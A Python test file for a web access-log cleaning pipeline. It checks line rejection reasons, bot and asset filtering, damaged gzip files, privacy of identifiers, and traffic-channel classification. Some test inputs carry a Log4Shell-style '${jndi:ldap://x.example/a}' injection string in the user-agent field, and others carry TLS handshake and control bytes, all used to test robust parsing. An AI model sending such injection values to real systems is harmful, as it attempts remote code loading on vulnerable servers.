"""Bad lines of access logs: each with its reason, none lost, whatever is done to a line."""

from __future__ import annotations

import datetime as dt
import gzip
import re
import tempfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from persona_pipeline.cleaning.inspect import Problem, inspect
from persona_pipeline.cleaning.web_agents import agent_told
from persona_pipeline.cleaning.web_channels import channel
from persona_pipeline.contracts import clean
from persona_pipeline.contracts.traces import WEB_HIT
from persona_pipeline.engine.duckdb import DuckDBEngine
from persona_pipeline.engine.protocol import Relation
from persona_pipeline.sources import access_log, log_lines
from persona_pipeline.sources.fingerprint import fingerprint
from persona_pipeline.sources.source import Source
from persona_pipeline.sources.split import split_files
from persona_pipeline_tests.cleaning.conftest import KEY, START, Project
from persona_pipeline_tests.cleaning.test_web import CHROME, COOKIE, DAY, FORMAT, PATH, hits, line, outcomes

SOURCE = Source(
    kind="web",
    format="access_log",
    path="raw/access_{day}*.log*",
    log_format=FORMAT,
    visitor="cookie_vid",
    requests_per_minute=20,
)
TLS = "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03"


def stamp(moment: str, offset: str = "+0800") -> str:
    return f"{dt.datetime.fromisoformat(moment):%d/%b/%Y:%H:%M:%S} {offset}"


LINES: list[tuple[str | bytes, str, str]] = [
    (line(), "clean", "new"),
    (line(TLS, status="400"), "filtered", "not_http"),  # row 27
    (line("\x16\x03\x01", status="400"), "filtered", "not_http"),
    (line("-", status="400"), "filtered", "not_http"),
    (line("", status="408"), "filtered", "not_http"),
    (line("GET /p/P1"), "filtered", "not_http"),
    (line("get /p/P1 HTTP/1.1"), "filtered", "not_http"),
    (line('GET /a\\"b HTTP/1.1', agent='say \\"hi\\" \\\\'), "clean", "new"),  # row 28
    (line("GET /a\\x22b c d HTTP/1.1", referrer="http://x.example/?q=\\x22"), "clean", "new"),
    (line("GET /%E4%BD HTTP/1.1"), "clean", "new"),
    (line("GET /p/P1 HTTP/2.0", address="2001:db8::1"), "clean", "new"),
    (line("GET /p/P1 HTTP/3"), "clean", "new"),
    (line("GET https://shop.example/p/P1?a=b HTTP/1.1"), "clean", "new"),
    (line("OPTIONS * HTTP/1.1"), "clean", "new"),
    (line('GET /a" b HTTP/1.1'), "rejected", "bad_line"),  # a quote that nothing escapes
    (line()[:60], "rejected", "bad_line"),
    (line().replace(' "', "", 1), "rejected", "bad_line"),
    ("", "rejected", "bad_line"),
    ("nonsense", "rejected", "bad_line"),
    (line(agent="\x1b[31m${jndi:ldap://x.example/a}\r"), "clean", "new"),  # row 29
    (line("GET /\x00 HTTP/1.1"), "clean", "new"),
    (line(agent="${jndi:ldap://x.example/a}"), "filtered", "bot"),
    (line(agent="café").encode("latin-1"), "rejected", "bad_encoding"),
    (line(agent="x" * (1 << 20)), "rejected", "line_too_long"),  # row 25
    (line(agent="-"), "filtered", "bot"),  # row 30
    (line(agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://x.example/)"), "filtered", "bot"),
    (line(agent="Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"), "filtered", "bot"),
    (line(agent="kube-probe/1.30"), "filtered", "bot"),
    (line("GET /static/app.js HTTP/1.1"), "filtered", "asset"),
    (line("GET /img/a.PNG HTTP/1.1"), "filtered", "asset"),
    (line("GET /favicon.ico HTTP/1.1"), "filtered", "asset"),
    (line(at="31/Feb/2025:10:00:00 +0800"), "rejected", "bad_datetime"),
    (line(at=stamp(f"{DAY} 23:59:59").replace(":59 ", ":60 ")), "clean", "new"),
    (line(at=stamp(f"{DAY + dt.timedelta(1)} 00:09:59")), "clean", "new"),
    (line(at=stamp(f"{DAY + dt.timedelta(1)} 00:10:00")), "rejected", "future"),
    (line(at=stamp(f"{START - dt.timedelta(1)} 23:59:59")), "rejected", "too_old"),
    (line(at=stamp(f"{DAY - dt.timedelta(35)} 00:00:00")), "clean", "new"),
    (line(at=stamp(f"{DAY - dt.timedelta(36)} 23:59:59")), "rejected", "too_late"),
    (line(status="000"), "rejected", "bad_number"),
    (line(size="1e3"), "rejected", "bad_number"),
]


@pytest.fixture
def web(project: Callable[..., Project]) -> Project:
    return project({"web": SOURCE})


def test_every_line_has_its_outcome(web: Project) -> None:
    lines = [each.encode() if isinstance(each, str) else each for each, _, _ in LINES]
    web.write(PATH + ".gz", gzip.compress(b"\xef\xbb\xbf" + b"\n".join(lines), mtime=0))
    web.run(DAY)
    counts: dict[tuple[str, str], int] = {("noted", "leap_second"): 1}
    for _, outcome, reason in LINES:
        counts[outcome, reason] = counts.get((outcome, reason), 0) + 1
    assert outcomes(web) == sorted((*key, count) for key, count in counts.items())
    rejected = [(at, reason) for at, (_, what, reason) in enumerate(LINES, 1) if what == "rejected"]
    assert web.select("SELECT line, reason FROM t ORDER BY line", clean.REJECT) == rejected
    accepted = [(at,) for at, (_, what, _) in enumerate(LINES, 1) if what == "clean"]
    assert hits(web, "hit_no") == accepted
    assert web.select("SELECT note, records_in FROM t", clean.FILE_LEDGER) == [
        ("byte-order mark removed", len(LINES))
    ]


def test_an_address_that_hammers_is_a_bot_for_that_minute_only(web: Project) -> None:
    at = [stamp(f"{DAY} 10:00:{second:02}") for second in range(60)]
    web.write(
        PATH,
        "\n".join(
            [
                *(line(at=moment, address="198.51.100.9") for moment in at[:21]),
                # a person: assets do not count
                *(line("GET /static/a.js HTTP/1.1", at=moment) for moment in at),
                *(line(at=moment) for moment in at[:20]),
                line(at=stamp(f"{DAY} 10:01:00"), address="198.51.100.9"),
            ]
        ),
    )
    web.run(DAY)
    expected = [("clean", "new", 21), ("filtered", "asset", 60), ("filtered", "bot", 21)]
    assert outcomes(web) == [*expected, ("noted", "too_many_requests", 21)]


def test_files_that_come_again_come_late_or_are_broken(web: Project) -> None:
    content = (line() + "\n" + line() + "\n").encode()
    packed = gzip.compress(content, mtime=0)
    first = gzip.compress(line("GET /c/tea HTTP/1.1").encode() + b"\n" + content[:50])
    members = first + gzip.compress(content[50:])
    following = DAY + dt.timedelta(1)
    web.write(PATH, content)
    web.write(f"raw/access_{DAY}_b.log.gz", packed)
    web.write(f"raw/access_{DAY}_c.log.gz", packed[:-12])
    web.write(f"raw/access_{DAY}_d.log.gz", packed[:-5] + bytes([packed[-5] ^ 1]) + packed[-4:])
    web.write(f"raw/access_{DAY}_e.log.gz", members)
    web.write(f"raw/access_{DAY}_f.log", "")
    web.write(f"raw/access_{following}_late.log", line("GET /help HTTP/1.1") + "\n")
    web.run(DAY, following)
    ledger = web.select(
        "SELECT substr(path, 23, 2), status, reason, records_in, clean, duplicate FROM t ORDER BY day, path",
        clean.FILE_LEDGER,
    )
    assert ledger == [
        ("lo", "loaded", None, 2, 2, 0),
        ("b.", "duplicate_file", None, 2, 0, 2),
        ("c.", "rejected_file", "gzip_truncated", 0, 0, 0),
        ("d.", "rejected_file", "gzip_crc", 0, 0, 0),
        ("e.", "loaded", None, 3, 3, 0),
        ("f.", "rejected_file", "empty", 0, 0, 0),
        ("la", "loaded", None, 1, 1, 0),
    ]
    assert hits(web, "day, event_day, hit_no >> 40, hit_no & 1023, page_type") == [
        (DAY, DAY, 0, 1, "product"),
        (following, DAY, 0, 1, "content"),
        (DAY, DAY, 0, 2, "product"),
        (DAY, DAY, 1, 1, "category"),
        (DAY, DAY, 1, 2, "product"),
        (DAY, DAY, 1, 3, "product"),
    ]


@pytest.mark.parametrize("small", [False, True])
def test_lines_of_several_files_stay_apart(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, small: bool
) -> None:
    """Read together or chunk by chunk; a file that breaks off after its first chunks leaves nothing."""
    if small:
        monkeypatch.setattr(log_lines, "CHUNK", 4096)
        monkeypatch.setattr(access_log, "TOGETHER", 4096)
    good, long = line().encode() + b"\n", line("GET /c/tea HTTP/1.1").encode() + b"\n"
    packed = gzip.compress(long * 12_000, mtime=0)  # more than one block of a megabyte
    contents = [
        good + b"\xff\n" + good,
        packed[:-5] + bytes([packed[-5] ^ 1]) + packed[-4:],
        packed,
        good + good + b"\xfe\n",
    ]
    deliveries = []
    for number, content in enumerate(contents):
        file = tmp_path / "raw" / f"access_{DAY}_{number}.log"
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(content)
        deliveries.append((f"raw/{file.name}", fingerprint(file).sha256))
    with DuckDBEngine(tmp_path / "scratch", memory="1GB", threads=1) as engine:
        split = split_files(
            "web",
            SOURCE,
            deliveries,
            project_directory=tmp_path,
            key=KEY,
            directory=tmp_path / "split",
            engine=engine,
        )
        found = engine.fetch(
            "SELECT path_no, reason, count(*) AS lines, min(line) AS first, max(line) AS last FROM r "
            "GROUP BY path_no, reason ORDER BY path_no, reason",
            {"r": Relation(split.paths)},
        )
    assert [(file.records, file.reason) for file in split.files] == [
        (3, None),
        (0, "gzip_crc"),
        (12_000, None),
        (3, None),
    ]
    assert [tuple(row.values()) for row in found.to_pylist()] == [
        (0, "bad_encoding", 1, 2, 2),
        (0, None, 2, 1, 3),
        (2, None, 12_000, 1, 12_000),
        (3, "bad_encoding", 1, 3, 3),
        (3, None, 2, 1, 2),
    ]


def test_a_range_gives_what_its_days_give(project: Callable[..., Project]) -> None:
    shops = [project({"web": SOURCE}) for _ in range(2)]
    for shop in shops:
        for number in range(3):
            day = DAY + dt.timedelta(number)
            moments = [stamp(f"{day} 10:00:{second:02}") for second in range(25)]
            texts = [line(f"GET /p/P{number} HTTP/1.1", at=each, user=f"0000000{number}") for each in moments]
            shop.write(f"raw/access_{day}.log", "\n".join(texts[: 10 + 10 * number]))
            late = line(at=stamp(f"{DAY} 09:00:00"), cookie=f"{number}" * 32)
            shop.write(f"raw/access_{day}_late.log", late)
    shops[0].run(DAY, DAY + dt.timedelta(2))
    for number in range(3):
        shops[1].run(DAY + dt.timedelta(number))
    for table in (WEB_HIT, clean.REJECT, clean.FILE_LEDGER, clean.LEDGER_REASON, clean.IDENTIFIER):
        assert shops[0].rows(table).equals(shops[1].rows(table)), table.full_name
    assert shops[0].select("SELECT count(*) FROM t", WEB_HIT) == [(10 + 20 + 3,)]


def test_no_address_agent_or_identifier_leaves_the_vault(web: Project) -> None:
    secret = ["203.0.113.7", "ann@example.org", "Chrome/131", COOKIE, "00000042", "secretpath", "K-77"]
    web.write(
        PATH,
        "\n".join(
            [
                line("GET /search?q=ann@example.org&cid=K-77 HTTP/1.1", user="00000042"),
                line("GET /c/ann@example.org HTTP/1.1", referrer="http://a@b.example/ann@example.org"),
                line("GET /secretpath?utm_campaign=ann@example.org&utm_source=ann@example.org HTTP/1.1"),
            ]
        ),
    )
    web.run(DAY)
    for table in (*clean.TABLES, WEB_HIT):
        text = str(web.rows(table).to_pylist())
        found = [each for each in secret if each in text]
        assert found == (["00000042"] if table is clean.IDENTIFIER else []), table.full_name


def test_check_says_what_would_be_refused(web: Project) -> None:
    content = "\n".join([line(), "cut", line(status="x"), line(TLS)]).encode()
    web.write(PATH, content)
    web.arrive(DAY)
    ((sha256,),) = web.select("SELECT sha256 FROM t", clean.ARRIVAL)
    result = inspect(
        web.engine,
        "web",
        SOURCE,
        [(PATH, sha256, DAY)],
        split=split_files,
        project_directory=web.directory,
        start=START,
        currency="CNY",
        time_zone="Asia/Shanghai",
        key=KEY,
        with_header=False,
    )
    assert (result.records, result.rejected) == (4, {"bad_line": 1, "bad_number": 1})
    assert result.problems == (
        Problem(PATH, 2, "bad_line", None),
        Problem(PATH, 3, "bad_number", "status", "x"),
    )


def test_the_real_log(project: Callable[..., Project], shared_data: Path) -> None:
    """10,000 lines of a real server; figures of its description, counted with another parser."""
    shop = project(
        {"web": Source(kind="web", format="access_log", path="raw/{day}.log.gz", log_format="combined")},
        start=dt.date(2015, 5, 1),
        time_zone="UTC",
    )
    packed = (shared_data / "apache_access_log" / "apache_logs.log.gz").read_bytes()
    shop.write("raw/2015-05-20.log.gz", packed)
    shop.run(dt.date(2015, 5, 20))
    ((records, accepted, rejected, filtered),) = shop.select(
        "SELECT records_in, clean, rejected, filtered FROM t", clean.FILE_LEDGER
    )
    assert (records, rejected, accepted + filtered) == (10_000, 1, 9_999)
    number = gzip.decompress(packed).split(b"\n")
    broken = [at for at, text in enumerate(number, 1) if text and not text.endswith(b'"')]
    assert shop.select("SELECT line, reason FROM t", clean.REJECT) == [(broken[0], "bad_line")]
    behaved = "SELECT sum(records)::INT FROM t WHERE reason = 'bot_behaviour'"
    assert shop.select(behaved, clean.LEDGER_REASON) == [(_silent_lines(packed),)]
    split = split_files(
        "web",
        shop.sources["web"],
        shop.select("SELECT path, sha256 FROM t", clean.ARRIVAL),
        project_directory=shop.directory,
        key=KEY,
        directory=shop.directory / "again",
        engine=shop.engine,
    )
    files = ", ".join(f"'{path}'" for path in split.paths)
    counts = shop.engine.fetch(
        "SELECT status, method, count(*) AS n, sum(bytes::BIGINT)::BIGINT AS bytes, "
        "count(DISTINCT address) AS a "
        f"FROM read_parquet([{files}]) WHERE reason IS NULL GROUP BY GROUPING SETS (status, method, ())",
        {},
    ).to_pylist()
    by_status = {row["status"]: row["n"] for row in counts if row["status"]}
    assert by_status == {
        "200": 9_125,
        "304": 445,
        "404": 213,
        "301": 164,
        "206": 45,
        "500": 3,
        "403": 2,
        "416": 2,
    }
    assert {row["method"]: row["n"] for row in counts if row["method"]} == {
        "GET": 9_951,
        "HEAD": 42,
        "POST": 5,
        "OPTIONS": 1,
    }
    (total,) = [row for row in counts if row["status"] is None and row["method"] is None]
    assert (total["a"], total["bytes"]) == (1_753, 2_747_282_505)


def _silent_lines(packed: bytes) -> int:
    """Lines of addresses that behave like robots and do not say so, told by another parser."""
    form = re.compile(r'(\S+) \S+ \S+ \[[^]]*\] "[A-Z]+ ([^ ?]+)[^"]*" \d+ \S+ "([^"]*)" "(.*)"')
    asset = re.compile(
        r".*\.(css|js|png|jpe?g|gif|svg|ico|xml|txt|json|woff|ttf|mp3|mp4|webm)|/favicon.*", re.I
    )
    found = [
        match.groups() for match in map(form.match, gzip.decompress(packed).decode().split("\n")) if match
    ]
    silent: dict[str, bool] = {}
    pages: Counter[str] = Counter()
    robots = set()
    for address, path, referrer, _ in found:
        is_asset = asset.fullmatch(path) is not None
        signs = is_asset and path != "/robots.txt" or (not is_asset and referrer.startswith("http"))
        silent[address] = silent.get(address, True) and not signs
        pages[address] += not is_asset
        robots |= {address} if path == "/robots.txt" else set()
    chosen = {each for each, holds in silent.items() if holds and (pages[each] >= 50 or each in robots)}
    assert len(chosen) > 100
    return sum(address in chosen and not agent_told(agent)[0] for address, _, _, agent in found)


BITS = st.sampled_from(
    ['"', "\\", '\\"', " ", "[", "]", "-", "\n", "\r\n", "\t", "\x00", "é", "\x16", "HTTP/1.1", ""]
)


@settings(max_examples=8, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from([each for each, _, _ in LINES if len(each) < 1000 and isinstance(each, str)]),
            st.lists(st.tuples(st.integers(0, 400), st.integers(0, 3), BITS), max_size=4),
        ),
        min_size=20,
        max_size=60,
    ),
    st.binary(max_size=30),
)
def test_whatever_is_done_to_lines_each_is_counted_once(edits: list[tuple], junk: bytes) -> None:
    texts = []
    for text, changes in edits:
        for at, length, bit in changes:
            text = text[:at] + bit + text[at + length :]  # noqa: PLW2901
        texts.append(text.encode())
    content = b"\n".join([*texts, junk])
    with tempfile.TemporaryDirectory() as folder, DuckDBEngine(Path(folder) / "scratch", threads=1) as engine:
        shop = Project(Path(folder), engine, {"web": SOURCE})
        shop.write(PATH, content)
        shop.run(DAY)  # raises where the ledger does not add up
        ((records, rejected),) = shop.select("SELECT records_in, rejected FROM t", clean.FILE_LEDGER)
        refused = shop.select("SELECT count(*), count(DISTINCT line), max(line) FROM t", clean.REJECT)
        accepted = shop.select("SELECT count(*), count(DISTINCT hit_no), max(hit_no) FROM t", WEB_HIT)
    physical = content.count(b"\n") + (not content.endswith(b"\n") and bool(content))
    assert records == physical
    assert refused[0][:2] == (rejected, rejected)
    assert accepted[0][0] == accepted[0][1]
    assert max(refused[0][2] or 0, accepted[0][2] or 0) <= physical


def test_agents_and_channels_are_told_apart() -> None:
    tablet = "Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 Chrome/118.0 Safari/537.36"
    devices = [agent_told(each)[1] for each in (CHROME, tablet, "??")]
    assert devices == ["desktop", "tablet", "unknown"]
    bots = [agent_told(each)[0] for each in (CHROME, tablet, "curl/8.5.0", "GPTBot/1.0", "Java/17")]
    assert bots == [False, False, True, True, True]
    own = ("shop.example",)
    cases = [
        ((None, None, None), "direct"),
        ((None, None, "www.shop.example"), "internal"),
        ((None, None, "notshop.example"), "referral"),
        ((None, None, "www.baidu.com"), "organic_search"),
        ((None, None, "www.google.co.uk"), "organic_search"),
        ((None, None, "m.weibo.cn"), "organic_social"),
        ((None, None, "mail.qq.com"), "email"),
        (("google", "cpc", None), "paid_search"),
        (("weibo", "paid_social", None), "paid_social"),
        (("newsletter", None, "www.google.com"), "email"),
        (("crm", "sms", None), "sms"),
        (("crm", "push", None), "app"),
        (("partner", "affiliate", None), "affiliate"),
        (("news.example", "banner", None), "display"),
        (("weibo", "social", None), "organic_social"),
        (("x", "y", None), "organic_social"),
        (("who", "knows", None), "other"),
    ]
    assert [channel(source, medium, host, own) for (source, medium, host), _ in cases] == [
        expected for _, expected in cases
    ]
